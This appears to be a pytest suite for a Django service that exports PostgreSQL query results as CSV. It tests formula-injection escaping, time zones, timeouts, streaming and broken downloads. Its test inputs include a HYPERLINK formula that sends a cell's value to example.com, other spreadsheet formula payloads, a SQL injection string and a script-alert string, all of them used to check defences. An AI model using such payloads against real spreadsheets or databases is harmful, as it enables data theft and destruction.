"""CSV written by PostgreSQL: what is in it, what it costs, and how it fails."""

from __future__ import annotations

import csv
import io
import os
import socket
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime
from http.client import HTTPConnection, IncompleteRead, RemoteDisconnected
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.db import OperationalError, connection
from django.db.utils import InternalError

from tests.ports import free_port
from web.budget import OutOfTimeError
from web.csv_stream import CsvLook, csv_blocks, text_cell, time_cell
from web.downloads import BLOCK_BYTES, written

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"Error: click")',
    *("+1+1", "-2+3", "@SUM(A1:A9)", "=", "\tx", "\rx", "\nx", "\r\n=x"),
    *(" =1+1", "   @x", '"=1+1', "'=1+1", '""=1', "`=1", "\u00a0=1", "\u3000=1", "\ufeff=1"),
    *("\u200b=1", "\x01=1", "\x0b=1", "\u201c=1\u201d", "\u00bb=1", "\uff07=1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "\ufe66x", "\ufe62x", "\ufe63x", "\ufe6bx"),
    *("\u22121", "\u3000\uff1dx"),
]
HARMLESS = [
    *("", "CN=www.example.com,O=Example,C=DE", "O'Brien & Sons", 'a "quoted", part', "'", '"'),
    *("<script>alert(1)</script>", "two\r\nlines", "a\tb", "\u2400", "1.2", "0", "8000-8080"),
    *("192.0.2.1", "2001:db8::1", "*", "\\.", "\\N", "x=1", "\u00e4\u00f6\u4e2d", "%s 100%"),
    *("   ", "NULL"),
]


def rows_of(sql: str, *params: object, limit_s: float = 0) -> list[list[str]]:
    text = b"".join(csv_blocks(sql, params, limit_s=limit_s)).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def cell(text: str | None) -> str:
    return rows_of(
        f"SELECT 1 AS number, {text_cell('v')} AS text FROM (SELECT %s::text v) x", text
    )[1][1]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.django_db
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
@pytest.mark.django_db
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.django_db
def test_a_missing_text_is_an_empty_cell() -> None:
    assert cell(None) == ""


@pytest.mark.django_db
def test_numbers_stay_plain_and_the_header_has_the_keys() -> None:
    found = rows_of('SELECT -1 AS "in_bytes", 9007199254740993::bigint AS "out_bytes"')
    assert found == [["in_bytes", "out_bytes"], ["-1", "9007199254740993"]]


@pytest.mark.parametrize(
    ("moment", "zone", "text"),
    [
        (datetime(2026, 10, 5, 0, 30, tzinfo=UTC), "UTC", "2026-10-05T00:30:00+00:00"),
        (datetime(2026, 7, 1, 12, 0, tzinfo=UTC), "Europe/Berlin", "2026-07-01T14:00:00+02:00"),
        (datetime(2026, 1, 1, 3, 0, tzinfo=UTC), "America/New_York", "2025-12-31T22:00:00-05:00"),
        (datetime(2026, 1, 1, 0, 0, tzinfo=UTC), "Asia/Kolkata", "2026-01-01T05:30:00+05:30"),
        # The hour that comes twice when clocks are set back: the offset tells the two apart.
        (datetime(2026, 10, 25, 0, 30, tzinfo=UTC), "Europe/Berlin", "2026-10-25T02:30:00+02:00"),
        (datetime(2026, 10, 25, 1, 30, tzinfo=UTC), "Europe/Berlin", "2026-10-25T02:30:00+01:00"),
    ],
)
@pytest.mark.django_db
def test_times_are_iso_with_the_offset_of_their_zone(
    moment: datetime, zone: str, text: str
) -> None:
    made = time_cell("t", zone="z")
    found = rows_of(f"SELECT {made} AS t FROM (SELECT %s::timestamptz t, %s z) x", moment, zone)
    assert found[1] == [text]
    assert datetime.fromisoformat(text) == moment
    assert moment.astimezone(ZoneInfo(zone)).isoformat() == text


@pytest.mark.django_db
def test_parts_of_a_second_survive() -> None:
    moment = datetime(2026, 1, 1, 0, 0, 0, 120_000, tzinfo=UTC)
    made = time_cell("t", zone="'UTC'")
    found = rows_of(f"SELECT {made} AS t FROM (SELECT %s::timestamptz t) x", moment)
    assert datetime.fromisoformat(found[1][0]) == moment


@pytest.mark.django_db
def test_a_missing_time_is_an_empty_cell() -> None:
    made = time_cell("t", zone="'UTC'")
    assert rows_of(f"SELECT 1 AS n, {made} AS t FROM (SELECT NULL::timestamptz t) x")[1] == [
        "1",
        "",
    ]


@pytest.mark.parametrize("value", ["'; DROP TABLE x; --", "%s %(a)s 100%", "\\", "a'b", "$$"])
@pytest.mark.django_db
def test_parameters_are_values_whatever_they_look_like(value: str) -> None:
    assert rows_of("SELECT %s::text AS v", value) == [["v"], [value]]


@pytest.mark.django_db
def test_a_question_past_its_limit_is_an_error() -> None:
    with pytest.raises(OutOfTimeError):
        rows_of("SELECT pg_sleep(30)::text", limit_s=0.05)
    assert rows_of("SELECT 1 AS one") == [["one"], ["1"]]


@pytest.mark.django_db
def test_a_question_past_its_limit_between_two_rows_is_an_error() -> None:
    with pytest.raises(OutOfTimeError):
        rows_of(
            "SELECT repeat('x', 99000), pg_sleep(0.02)::text FROM generate_series(1, 9000)",
            limit_s=0.5,
        )


@pytest.mark.django_db
def test_nothing_can_be_written_under_way() -> None:
    with pytest.raises(InternalError, match="read-only"):
        rows_of("SELECT nextval('analyzer_import_id_seq')")


@pytest.mark.django_db
def test_blocks_are_whole_lines_of_bounded_size() -> None:
    blocks = list(csv_blocks("SELECT n FROM generate_series(1, 100000) n", (), limit_s=0))
    assert len(blocks) > 5
    assert all(block.endswith(b"\n") for block in blocks)
    assert max(map(len, blocks)) < BLOCK_BYTES + 100
    assert b"".join(blocks).split() == [b"n", *(b"%d" % n for n in range(1, 100_001))]


@pytest.mark.django_db
def test_a_result_that_fills_its_last_block_has_no_empty_one_behind_it() -> None:
    # The header and two rows, each with the end of its line, are exactly two blocks.
    lengths = [BLOCK_BYTES - len("x\n") - 1, BLOCK_BYTES - 1]
    sql = "SELECT repeat('a', n) AS x FROM unnest(%s::int[]) WITH ORDINALITY u (n, i) ORDER BY i"
    blocks = list(csv_blocks(sql, (lengths,), limit_s=0))
    assert [len(block) for block in blocks] == [BLOCK_BYTES, BLOCK_BYTES]


@pytest.mark.django_db
def test_a_result_without_rows_has_its_header() -> None:
    assert rows_of("SELECT 1 AS one WHERE false") == [["one"]]


@pytest.mark.django_db
def test_a_reader_that_goes_away_leaves_the_connection_usable() -> None:
    blocks: Any = csv_blocks("SELECT n FROM generate_series(1, 9000000) n", (), limit_s=0)
    next(blocks)
    blocks.close()
    assert rows_of("SELECT 1 AS one") == [["one"], ["1"]]


@pytest.mark.django_db(transaction=True)
def test_a_database_that_goes_away_is_an_error_and_not_the_end() -> None:
    connection.ensure_connection()
    blocks = csv_blocks("SELECT n FROM generate_series(1, 90000000) n", (), limit_s=0)
    next(blocks)
    found = connection.settings_dict
    pid = connection.connection.info.backend_pid
    with connection.Database.connect(
        host=found["HOST"], port=found["PORT"], user=found["USER"], dbname=found["NAME"]
    ) as other:
        other.execute("SELECT pg_terminate_backend(%s)", [pid])
    try:
        with pytest.raises(OperationalError):
            list(blocks)
    finally:
        connection.close()


@pytest.mark.django_db
def test_memory_does_not_grow_with_the_rows(tmp_path: Path) -> None:
    wide = "SELECT n, repeat('x', 400) AS x FROM generate_series(1, %s) n"
    written(lambda file: file.writelines(csv_blocks(wide, (100,), limit_s=0)), tmp_path).close()
    tracemalloc.start()
    blocks = csv_blocks(wide, (100_000,), limit_s=0)
    with written(lambda file: file.writelines(blocks), tmp_path) as file:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        size = file.seek(0, os.SEEK_END)
    assert size > 40_000_000
    assert peak < 1_000_000


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("look", "text"),
    [
        (CsvLook(";", "minimal"), 'n;a"b\n1;"x;y"\n2;\n'),
        (CsvLook("|", "all"), '"n"|"a""b"\n"1"|"x;y"\n"2"|\n'),
        (CsvLook("\t", "nonnumeric"), '"n"\t"a""b"\n1\t"x;y"\n2\t\n'),
        (CsvLook(",", "nonnumeric"), '"n","a""b"\n1,"x;y"\n2,\n'),
    ],
)
def test_delimiter_and_quoting_are_as_somebody_likes(look: CsvLook, text: str) -> None:
    sql = """SELECT n, a AS "a""b" FROM (VALUES (1, 'x;y'), (2, NULL)) v (n, a)"""
    found: list[int] = []
    blocks = csv_blocks(
        sql, (), limit_s=0, look=look, columns={"n": True, 'a"b': False}, counted=found.append
    )
    expected = text.replace('n;a"b', 'n;"a""b"')
    assert b"".join(blocks).decode() == expected
    assert found == [2]


@pytest.mark.django_db
def test_numbers_alone_need_no_quotation_marks_in_a_file_of_texts_in_quotes() -> None:
    look = CsvLook(",", "nonnumeric")
    blocks = csv_blocks("SELECT 1 AS n", (), limit_s=0, look=look, columns={"n": True})
    assert b"".join(blocks) == b'"n"\n1\n'


@pytest.fixture(scope="module")
def server() -> Iterator[int]:
    """The product's HTTP server with an application that breaks."""
    port = free_port()
    command = ["granian", "--interface", "wsgi", "tests.web.broken_download:application"]
    process = subprocess.Popen(
        [*(sys.executable, "-m"), *command, "--port", str(port), "--no-ws", "--log-level", "error"],
        cwd=ROOT,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "config.settings"},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    until = time.monotonic() + 60
    while not _answers(port):
        assert process.poll() is None
        assert time.monotonic() < until
        time.sleep(0.05)
    yield port
    process.terminate()
    process.wait(20)


def test_a_download_that_breaks_does_not_look_whole(server: int) -> None:
    client = HTTPConnection("127.0.0.1", server, timeout=30)
    client.request("GET", "/broken")
    # The server closes the connection; whether the first half was on its way by then is a race.
    with pytest.raises((IncompleteRead, RemoteDisconnected, ConnectionResetError)):
        client.getresponse().read()
    client.close()


def test_a_download_that_does_not_break_is_whole(server: int) -> None:
    client = HTTPConnection("127.0.0.1", server, timeout=30)
    client.request("GET", "/whole")
    assert client.getresponse().read() == b"a,b\r\n" * 100_000
    client.close()


def _answers(port: int) -> bool:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
    except OSError:
        return False
    return True
